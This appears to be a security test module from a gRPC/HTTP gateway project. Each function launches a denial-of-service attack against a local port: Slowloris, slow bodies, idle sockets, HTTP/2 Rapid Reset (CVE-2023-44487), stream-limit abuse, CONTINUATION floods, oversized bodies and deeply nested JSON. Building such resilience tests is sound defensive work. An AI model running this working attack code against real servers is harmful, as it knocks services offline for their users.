"""Attacks of hostile clients on the gateway, each in a process of its own.

`python -m tests.security.attacks NAME PORT TOKEN` runs until it is killed, and prints a line of JSON for every round.
"""

from __future__ import annotations

import asyncio
import collections
import json
import os
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress

import h2.connection
import h2.errors
import h2.events
import hpack
from hyperframe.frame import ContinuationFrame, Frame, HeadersFrame, SettingsFrame

SOCKETS = 200
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LIST = "/moneyprinter.video.v1.VideoService/ListVideos"


def report(**words: object) -> None:
    print(json.dumps(words), flush=True)


async def connect(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection("127.0.0.1", port)


async def send_slowly(port: int, first: bytes, drip: bytes) -> str:
    """Start a request, and send a few bytes at intervals until there is a response; returns its status."""
    reader, writer = await connect(port)
    writer.write(first)
    answer = asyncio.create_task(reader.readline())
    with suppress(ConnectionError):
        while not (await asyncio.wait([answer], timeout=0.2))[0]:
            writer.write(drip)
    writer.transport.abort()
    with suppress(ConnectionError):
        return (await answer).decode().strip()
    return "reset"


async def _in_rounds(one: Callable[[], Awaitable[str]]) -> None:
    while True:
        answers = await asyncio.gather(*(one() for _ in range(SOCKETS)))
        report(answers=collections.Counter(answers))


async def slow_headers(port: int, token: str) -> None:
    """Slowloris: 200 sockets with endless headers."""
    await _in_rounds(lambda: send_slowly(port, b"GET /v1/videos HTTP/1.1\r\nhost: here\r\n", b"x-more: 1\r\n"))


async def slow_bodies(port: int, token: str) -> None:
    """200 sockets with endless bodies."""
    head = f"POST /v1/videos HTTP/1.1\r\nhost: here\r\ncontent-length: 9999\r\nauthorization: Bearer {token}\r\n\r\n"
    await _in_rounds(lambda: send_slowly(port, head.encode(), b"{"))


async def silent(port: int, token: str) -> None:
    """200 sockets that send nothing."""
    sockets = [await connect(port) for _ in range(SOCKETS)]
    report(sockets=len(sockets))
    await asyncio.Event().wait()


def _request(connection: h2.connection.H2Connection, token: str, *, end: bool) -> int:
    stream = connection.get_next_available_stream_id()
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "here"),
        (":path", LIST),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("authorization", f"Bearer {token}"),
    ]
    connection.send_headers(stream, headers, end_stream=end)
    return stream


async def rapid_reset(port: int, token: str) -> None:
    """Streams that are opened and reset at once, a thousand per connection, as fast as possible (CVE-2023-44487)."""
    while True:
        reader, writer = await connect(port)
        connection = h2.connection.H2Connection()
        connection.initiate_connection()
        sent = 0
        with suppress(ConnectionError):
            for _ in range(10):
                for _ in range(100):
                    connection.reset_stream(_request(connection, token, end=False), h2.errors.ErrorCodes.CANCEL)
                writer.write(connection.data_to_send())
                await writer.drain()
                sent += 100
            while await asyncio.wait_for(reader.read(65536), 0.5):
                pass
        writer.transport.abort()
        report(reset=sent)


async def too_many_streams(port: int, token: str) -> None:
    """150 concurrent unfinished requests on one connection, beyond the limit in the gateway's settings."""
    while True:
        reader, writer = await connect(port)
        connection = h2.connection.H2Connection()
        connection.initiate_connection()
        # Send before reading the gateway's settings, so that the client ignores its limit.
        for _ in range(150):
            _request(connection, token, end=False)
        writer.write(connection.data_to_send())
        refused = 0
        with suppress(TimeoutError, ConnectionError):
            while data := await asyncio.wait_for(reader.read(65536), 0.5):
                events = connection.receive_data(data)
                refused += sum(isinstance(event, h2.events.StreamReset) for event in events)
                writer.write(connection.data_to_send())
        writer.transport.abort()
        report(refused=refused)


async def endless_headers(port: int, token: str) -> None:
    """Requests with endless header blocks, until the gateway closes the connection (the CONTINUATION flood)."""
    block = hpack.Encoder().encode([(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "here")])
    first: Frame = HeadersFrame(1, data=block)
    more = ContinuationFrame(1, data=hpack.Encoder().encode([(f"x-{number}", "y" * 500) for number in range(20)]))
    while True:
        _, writer = await connect(port)
        writer.write(PREFACE + SettingsFrame(0).serialize() + first.serialize())
        sent = 0
        with suppress(ConnectionError):
            while sent < 2000:
                writer.write(more.serialize())
                await writer.drain()
                sent += 1
        writer.transport.abort()
        report(frames=sent)


async def large_bodies(port: int, token: str) -> None:
    """JSON of 5 MB, repeatedly."""
    head = f"POST /v1/videos HTTP/1.1\r\nhost: here\r\ncontent-length: 5000000\r\nauthorization: Bearer {token}\r\n\r\n"

    async def send(writer: asyncio.StreamWriter) -> None:
        with suppress(ConnectionError):
            for _ in range(76):
                writer.write(b"x" * 65536)
                await writer.drain()

    while True:
        reader, writer = await connect(port)
        writer.write(head.encode() + b'{"title": "')
        # The response arrives while the body is still being sent; the gateway does not read the rest.
        sending = asyncio.create_task(send(writer))
        answer = (await reader.readline()).decode().strip()
        sending.cancel()
        writer.transport.abort()
        report(answers={answer: 1})


async def deep_json(port: int, token: str) -> None:
    """JSON of 1000 levels, repeatedly."""
    deep = '{"changes":' * 1000 + "1" + "}" * 1000
    for path in ("/v1/videos", "/v1/videos/vid_1/revise") * 1_000_000:
        reader, writer = await connect(port)
        head = [f"POST {path} HTTP/1.1", "host: here", f"content-length: {len(deep)}", f"authorization: Bearer {token}"]
        writer.write("\r\n".join([*head, "", deep]).encode())
        answer = (await reader.readline()).decode().strip()
        writer.transport.abort()
        report(answers={answer: 1})


ATTACKS = {
    attack.__name__: attack
    for attack in (
        *(slow_headers, slow_bodies, silent, rapid_reset, too_many_streams),
        *(endless_headers, large_bodies, deep_json),
    )
}


if __name__ == "__main__":
    # A real attacker has a machine of its own: this one must not take the CPU from its victim.
    os.nice(19)
    asyncio.run(ATTACKS[sys.argv[1]](int(sys.argv[2]), sys.argv[3]))
